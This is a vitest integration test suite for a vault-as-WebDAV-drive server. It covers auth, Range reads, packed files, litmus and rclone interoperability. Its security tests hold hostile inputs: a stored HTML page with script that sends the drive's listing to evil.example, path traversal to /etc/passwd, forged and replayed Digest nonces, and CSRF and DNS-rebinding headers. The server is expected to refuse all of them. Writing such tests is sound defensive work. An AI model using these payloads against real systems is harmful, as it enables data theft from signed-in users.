// `shardvault mount`: the vault as a WebDAV drive, driven by real clients: the litmus suite
// (neon, which picks Digest when offered), rclone's WebDAV backend (Basic), and node:http
// for what a test must see byte by byte (the first line, Range, refusals, the exit).
import { spawn, type ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import * as nodePath from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureBuilt, runCli, snapshotTree, startCli, TempRoot, writeRandomFile } from './helpers/cli';
import { requireBinary } from './servers/process';

const PASSPHRASE = 'drive test passphrase: seven blue kettles';
const SEGMENT = 64 * 1024;

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: Buffer;
}

describe('shardvault mount', () => {
  let root: TempRoot;
  let env: Record<string, string>;
  let mount: ChildProcess;
  let url: URL;
  let stderrBeforeAddress = '';
  let stderr = '';
  let exited: Promise<number | null>;
  let locations: string[];

  function send(
    method: string,
    path: string,
    options: { headers?: Record<string, string>; body?: Buffer | string; auth?: string | null } = {},
  ): Promise<Answer> {
    const headers: Record<string, string> = { ...options.headers };
    const auth =
      options.auth === undefined
        ? `Basic ${Buffer.from(`${url.username}:${url.password}`).toString('base64')}`
        : options.auth;
    if (auth !== null) headers['authorization'] = auth;
    return new Promise((resolve, reject) => {
      const req = httpRequest({ host: url.hostname, port: url.port, method, path, headers }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks) }));
        res.on('error', reject);
      });
      req.on('error', reject);
      req.end(options.body);
    });
  }

  beforeAll(async () => {
    ensureBuilt();
    root = await TempRoot.create('shardvault-drive-');
    locations = await root.locations('locations', 3);
    env = { SHARDVAULT_HOME: await root.dir('home'), SHARDVAULT_PASSPHRASE: PASSPHRASE };
    const init = await runCli(
      [
        'init',
        ...locations.flatMap((l) => ['--location', l]),
        '--data',
        '2',
        '--total',
        '3',
        '--threshold',
        '2',
        '--segment-size',
        String(SEGMENT),
        '--insecure-kdf-cost',
        '10',
      ],
      { env },
    );
    expect(init.code, init.stderr).toBe(0);
    // Small files stored by put DIR are packed (docs/FORMAT.md "Packs"): the drive serves them too.
    const small = await root.dir('small');
    await fs.writeFile(nodePath.join(small, 'a.txt'), 'packed file a\n'.repeat(300));
    await fs.writeFile(nodePath.join(small, 'b.txt'), 'packed file b\n');
    const put = await runCli(['put', small, '--name', 'packed'], { env });
    expect(put.code, put.stderr).toBe(0);
    mount = startCli(['mount'], { env });
    exited = new Promise((resolve) => mount.on('exit', (code) => resolve(code)));
    let stdout = '';
    mount.stderr!.on('data', (b: Buffer) => (stderr += b.toString()));
    const firstLine = await new Promise<string>((resolve, reject) => {
      mount.stdout!.on('data', (b: Buffer) => {
        if (stdout === '') stderrBeforeAddress = stderr;
        stdout += b.toString();
        const nl = stdout.indexOf('\n');
        if (nl >= 0) resolve(stdout.slice(0, nl));
      });
      mount.on('exit', (code) => reject(new Error(`mount ended (${code}): ${stderr}`)));
    });
    expect(firstLine).toMatch(/^http:\/\/shardvault:[A-Za-z0-9]{32}@127\.0\.0\.1:\d+\/$/);
    url = new URL(firstLine);
  }, 60_000);

  afterAll(async () => {
    if (mount.exitCode === null) mount.kill('SIGKILL');
    await root?.cleanup();
  });

  it('prints its address first, with nothing before it on stderr, and holds the profile (exit 5)', async () => {
    expect(stderrBeforeAddress).toBe('');
    const ls = await runCli(['ls'], { env });
    expect(ls.code).toBe(5);
    expect(ls.stderr).toMatch(/another Shardvault process/);
  });

  it('refuses a wrong password or none, offering Digest and Basic', async () => {
    const none = await send('PROPFIND', '/', { auth: null, headers: { depth: '0' } });
    expect(none.status).toBe(401);
    const offers = [none.headers['www-authenticate']].flat().join('\n');
    expect(offers).toMatch(/\bDigest [^,]*,.*algorithm=SHA-256/);
    expect(offers).toMatch(/\bBasic realm=/);
    const wrong = await send('GET', '/', {
      auth: `Basic ${Buffer.from(`shardvault:${'x'.repeat(32)}`).toString('base64')}`,
    });
    expect(wrong.status).toBe(401);
  });

  it('answers Digest only under a nonce it issued', async () => {
    const challenge = [(await send('OPTIONS', '/', { auth: null })).headers['www-authenticate']]
      .flat()
      .find((v) => v?.includes('SHA-256'))!;
    const nonce = /nonce="([^"]+)"/.exec(challenge)![1]!;
    const realm = /realm="([^"]+)"/.exec(challenge)![1]!;
    const digest = (n: string, nc = '00000001'): string => {
      const h = (s: string): string => createHash('sha256').update(s).digest('hex');
      const response = h(`${h(`shardvault:${realm}:${url.password}`)}:${n}:${nc}:c0ffee:auth:${h('OPTIONS:/')}`);
      return `Digest username="shardvault", realm="${realm}", nonce="${n}", uri="/", algorithm=SHA-256, qop=auth, nc=${nc}, cnonce="c0ffee", response="${response}"`;
    };
    expect((await send('OPTIONS', '/', { auth: digest(nonce) })).status).toBe(200);
    const forged = `${Date.now().toString(16)}.${'A'.repeat(43)}`;
    expect((await send('OPTIONS', '/', { auth: digest(forged) })).status).toBe(401);
    // The same header again is a replay: refused as stale (a fresh nonce offered); the next
    // count under the same nonce is a new request.
    const replay = await send('OPTIONS', '/', { auth: digest(nonce) });
    expect(replay.status).toBe(401);
    expect([replay.headers['www-authenticate']].flat().join(' ')).toMatch(/stale=true/);
    expect((await send('OPTIONS', '/', { auth: digest(nonce, '00000002') })).status).toBe(200);
  });

  it('answers only to its own host names (no DNS rebinding)', async () => {
    expect((await send('OPTIONS', '/', { headers: { host: `evil.example:${url.port}` } })).status).toBe(421);
    expect((await send('OPTIONS', '/', { headers: { host: `localhost:${url.port}` } })).status).toBe(200);
  });

  it("refuses another site's page in a browser that signed in to it (CSRF, probing names)", async () => {
    // A browser that signed in keeps the credentials and sends them with any page's request
    // to this origin: an <img> tells a page whether a name exists (load or error) and a
    // picture's size; a navigation downloads plaintext into the Downloads folder.
    const probe = { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' };
    expect((await send('GET', '/packed/a.txt', { headers: probe })).status).toBe(403);
    const navigation = { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' };
    expect((await send('GET', '/packed/a.txt', { headers: navigation })).status).toBe(403);
    // Another port of this machine is another origin of the same site: no better.
    expect((await send('GET', '/packed/a.txt', { headers: { 'sec-fetch-site': 'same-site' } })).status).toBe(403);
    // A sandboxed frame or a file:// page says Origin: null.
    expect((await send('PUT', '/csrf.txt', { headers: { origin: 'null' }, body: 'x' })).status).toBe(403);
    const form = { origin: 'http://evil.example', 'content-type': 'text/plain' };
    expect((await send('PUT', '/csrf.txt', { headers: form, body: 'x' })).status).toBe(403);
    expect((await send('GET', '/csrf.txt')).status).toBe(404);
    // What the user opens (typed, a bookmark) and the drive's own listing's links still work,
    // and so do WebDAV clients, which send neither header.
    const typed = { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' };
    expect((await send('GET', '/packed/a.txt', { headers: typed })).status).toBe(200);
    const own = { 'sec-fetch-site': 'same-origin', origin: `http://127.0.0.1:${url.port}` };
    expect((await send('GET', '/packed/', { headers: own })).status).toBe(200);
    expect((await send('GET', '/packed/a.txt')).status).toBe(200);
  });

  it('lets no stored page run at its origin, where the signed-in browser reads everything', async () => {
    // A page of the drive's own origin would read every file with the browser's sign-in.
    const page =
      '<!doctype html><script>fetch("/").then(r => r.text()).then(t => navigator.sendBeacon("//evil.example", t))</script>';
    expect((await send('PUT', '/page.html', { body: page })).status).toBe(201);
    for (const path of ['/page.html', '/']) {
      const answer = await send('GET', path);
      expect(answer.status).toBe(200);
      expect(answer.headers['x-content-type-options']).toBe('nosniff');
      expect(answer.headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
    }
    expect((await send('GET', '/page.html')).headers['content-type']).toBe('application/octet-stream');
    expect((await send('DELETE', '/page.html')).status).toBe(204);
  });

  it('bounds what locks make a PROPFIND say: owners and locks stacked on one resource', async () => {
    // Each depth-infinity lock on a folder is listed in every child's lockdiscovery: 100
    // shared locks with 60 KiB owners over 200 files made one PROPFIND take 38 s and 1.2 GB.
    expect((await send('MKCOL', '/stacked')).status).toBe(201);
    for (let i = 0; i < 3; i++) expect((await send('PUT', `/stacked/f${i}`, { body: 'x' })).status).toBe(201);
    const lockinfo = (owner: string): string =>
      `<?xml version="1.0"?><D:lockinfo xmlns:D="DAV:"><D:lockscope><D:shared/></D:lockscope>` +
      `<D:locktype><D:write/></D:locktype><D:owner>${owner}</D:owner></D:lockinfo>`;
    const lock = (owner: string): Promise<Answer> =>
      send('LOCK', '/stacked', { headers: { depth: 'infinity' }, body: lockinfo(owner) });
    expect((await lock('o'.repeat(60 * 1024))).status).toBe(400);
    const tokens: string[] = [];
    for (let i = 0; i < 16; i++) {
      const taken = await lock(`<D:href>client ${i}</D:href>`);
      expect(taken.status).toBe(200);
      tokens.push(String(taken.headers['lock-token']));
    }
    // A lock on a file below stacks on the folder's sixteen as well.
    expect((await lock('one too many')).status).toBe(423);
    expect((await send('LOCK', '/stacked/f0', { headers: { depth: '0' }, body: lockinfo('x') })).status).toBe(423);
    const listing = await send('PROPFIND', '/stacked', { headers: { depth: '1' } });
    expect(listing.status).toBe(207);
    expect(listing.body.length).toBeLessThan(64 * 1024);
    for (const token of tokens) {
      expect((await send('UNLOCK', '/stacked', { headers: { 'lock-token': token } })).status).toBe(204);
    }
    expect((await send('DELETE', '/stacked')).status).toBe(204);
  });

  it('never follows .. and bounds the XML it reads', async () => {
    expect((await send('GET', '/%2e%2e/etc/passwd')).status).toBe(400);
    expect((await send('GET', '/a/../../etc')).status).toBe(400);
    const big = `<?xml version="1.0"?><D:propfind xmlns:D="DAV:"><D:prop>${'<D:x/>'.repeat(20_000)}</D:prop></D:propfind>`;
    expect((await send('PROPFIND', '/', { headers: { depth: '0' }, body: big })).status).toBe(413);
    expect((await send('PROPFIND', '/', { headers: { depth: 'infinity' } })).status).toBe(403);
  });

  it('refuses to MOVE or COPY a file over the folder that holds it (the source is kept)', async () => {
    expect((await send('MKCOL', '/holder')).status).toBe(201);
    expect((await send('PUT', '/holder/inner.txt', { body: 'keep me' })).status).toBe(201);
    const dest = `http://${url.host}/holder`;
    for (const method of ['MOVE', 'COPY']) {
      const answer = await send(method, '/holder/inner.txt', { headers: { destination: dest, overwrite: 'T' } });
      expect(answer.status, method).toBe(409);
      const kept = await send('GET', '/holder/inner.txt');
      expect(kept.status, method).toBe(200);
      expect(kept.body.toString(), method).toBe('keep me');
    }
    expect((await send('DELETE', '/holder')).status).toBe(204);
  });

  it('streams a Range from the middle of a file of several segments', async () => {
    const local = nodePath.join(root.path, 'ranged.bin');
    await writeRandomFile(local, 5 * SEGMENT + 123);
    const bytes = await fs.readFile(local);
    expect((await send('PUT', '/ranged.bin', { body: bytes })).status).toBe(201);
    const whole = await send('GET', '/ranged.bin');
    expect(whole.status).toBe(200);
    expect(whole.body.equals(bytes)).toBe(true);
    const from = 2 * SEGMENT + 77;
    const to = 4 * SEGMENT + 5;
    const part = await send('GET', '/ranged.bin', { headers: { range: `bytes=${from}-${to}` } });
    expect(part.status).toBe(206);
    expect(part.headers['content-range']).toBe(`bytes ${from}-${to}/${bytes.length}`);
    expect(part.body.equals(bytes.subarray(from, to + 1))).toBe(true);
    const tail = await send('GET', '/ranged.bin', { headers: { range: 'bytes=-100' } });
    expect(tail.body.equals(bytes.subarray(bytes.length - 100))).toBe(true);
    expect((await send('GET', '/ranged.bin', { headers: { range: `bytes=${bytes.length}-` } })).status).toBe(416);
    expect((await send('GET', '/ranged.bin', { headers: { range: 'bytes=9-3' } })).status).toBe(416);
    expect((await send('GET', '/ranged.bin', { headers: { range: 'bytes=99999999999999999999-' } })).status).toBe(416);
    expect((await send('DELETE', '/ranged.bin')).status).toBe(204);
  });

  it('serves packed files: GET, a Range, MOVE in the head alone, DELETE leaving the other', async () => {
    const a = Buffer.from('packed file a\n'.repeat(300));
    const whole = await send('GET', '/packed/a.txt');
    expect(whole.status).toBe(200);
    expect(whole.body.equals(a)).toBe(true);
    const part = await send('GET', '/packed/a.txt', { headers: { range: 'bytes=100-1099' } });
    expect(part.status).toBe(206);
    expect(part.body.equals(a.subarray(100, 1100))).toBe(true);
    const moved = await send('MOVE', '/packed/a.txt', {
      headers: { destination: `http://${url.host}/packed/moved.txt` },
    });
    expect(moved.status).toBe(201);
    expect((await send('GET', '/packed/moved.txt')).body.equals(a)).toBe(true);
    expect((await send('DELETE', '/packed/moved.txt')).status).toBe(204);
    expect((await send('GET', '/packed/b.txt')).body.toString()).toBe('packed file b\n');
  });

  it('reads a Range from its own segment on: a ruined first segment does not stop it', async () => {
    const local = nodePath.join(root.path, 'from-segment.bin');
    const size = 5 * SEGMENT + 123;
    await writeRandomFile(local, size);
    const bytes = await fs.readFile(local);
    expect((await send('PUT', '/from-segment.bin', { body: bytes })).status).toBe(201);
    // Every shard's first frame (segment 0) gets a flipped byte: a read from byte 0 can no
    // longer authenticate segment 0 from any shard, a read from segment 2 never fetches it.
    const full = SEGMENT / 2 + 16;
    const last = Math.ceil(123 / 2) + 16;
    const shards: string[] = [];
    const walk = async (dir: string): Promise<void> => {
      for (const e of await fs.readdir(dir, { withFileTypes: true })) {
        const p = nodePath.join(dir, e.name);
        if (e.isDirectory()) await walk(p);
        else if (e.isFile() && (await fs.stat(p)).size > 5 * full) shards.push(p);
      }
    };
    for (const l of locations) await walk(l);
    expect(shards).toHaveLength(3);
    for (const shard of shards) {
      const stored = await fs.readFile(shard);
      stored[stored.length - 5 * full - last + 10]! ^= 0xff;
      await fs.writeFile(shard, stored);
    }
    const from = 2 * SEGMENT + 5;
    const part = await send('GET', '/from-segment.bin', { headers: { range: `bytes=${from}-` } });
    expect(part.status).toBe(206);
    expect(part.body.equals(bytes.subarray(from))).toBe(true);
    const whole = await send('GET', '/from-segment.bin').then(
      (a) => a.body.equals(bytes),
      () => false,
    );
    expect(whole).toBe(false);
    expect((await send('DELETE', '/from-segment.bin')).status).toBe(204);
  });

  it('passes litmus: basic, copymove and http fully; props and locks', async () => {
    const litmus = requireBinary('litmus', 'litmus');
    const work = await root.dir('litmus');
    const out = await new Promise<string>((resolve, reject) => {
      const child = spawn(
        litmus,
        ['-k', `http://127.0.0.1:${url.port}/`, 'shardvault', decodeURIComponent(url.password)],
        { cwd: work, env: { ...process.env, TESTS: 'basic copymove http props locks' } },
      );
      let text = '';
      child.stdout.on('data', (b: Buffer) => (text += b.toString()));
      child.stderr.on('data', (b: Buffer) => (text += b.toString()));
      child.on('error', reject);
      child.on('exit', () => resolve(text));
    });
    const summaries = out.split('\n').filter((l) => l.startsWith('<- summary'));
    // The suite's own summary, printed for CI's log.
    console.log(summaries.join('\n'));
    const failed = out.split('\n').filter((l) => /\bFAIL\b/.test(l));
    expect(failed, out).toEqual([]);
    for (const suite of ['basic', 'copymove', 'http', 'props', 'locks'])
      expect(
        summaries.some((s) => s.includes(`\`${suite}'`) && s.includes('0 failed')),
        out,
      ).toBe(true);
  }, 240_000);

  it('takes a tree from rclone and gives it back byte for byte', async () => {
    const rclone = requireBinary('rclone', 'rclone');
    const tree = await root.dir('tree');
    await fs.mkdir(nodePath.join(tree, 'docs', 'deep'), { recursive: true });
    await writeRandomFile(nodePath.join(tree, 'top.bin'), 3 * SEGMENT + 9);
    await writeRandomFile(nodePath.join(tree, 'docs', 'a.txt'), 1000);
    await writeRandomFile(nodePath.join(tree, 'docs', 'deep', 'b c.bin'), SEGMENT);
    await fs.writeFile(nodePath.join(tree, 'docs', 'empty'), '');
    const obscured = (await runTool(rclone, ['obscure', url.password])).trim();
    const remote = `:webdav,url='http://127.0.0.1:${url.port}/',vendor=other,user=shardvault,pass=${obscured}:`;
    const config = nodePath.join(root.path, 'rclone.conf');
    await fs.writeFile(config, '');
    const flags = [
      '--config',
      config,
      '--transfers',
      '2',
      '--checkers',
      '2',
      '--retries',
      '1',
      '--low-level-retries',
      '1',
    ];
    await runTool(rclone, ['copy', tree, `${remote}rclone`, ...flags]);
    const back = await root.dir('back');
    await runTool(rclone, ['copy', `${remote}rclone`, back, ...flags]);
    expect(await snapshotTree(back)).toEqual(await snapshotTree(tree));
    const ls = await send('PROPFIND', '/rclone/docs/', { headers: { depth: '1' } });
    expect(ls.status).toBe(207);
    expect(ls.body.toString()).toContain('/rclone/docs/deep/');
    expect(ls.body.toString()).toContain('/rclone/docs/a.txt');
  }, 120_000);

  it('stops on SIGTERM with exit 0 and lets the profile go', async () => {
    mount.kill('SIGTERM');
    expect(await exited).toBe(0);
    const ls = await runCli(['--json', 'ls'], { env });
    expect(ls.code, ls.stderr).toBe(0);
    expect(ls.stdout).toContain('rclone/docs/deep/b c.bin');
  }, 30_000);
});

function runTool(command: string, args: readonly string[]): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    child.stdout.on('data', (b: Buffer) => (out += b.toString()));
    child.stderr.on('data', (b: Buffer) => (err += b.toString()));
    child.on('error', reject);
    child.on('exit', (code) =>
      code === 0 ? resolve(out) : reject(new Error(`${command} ${args[0]} exited ${code}: ${err}`)),
    );
  });
}
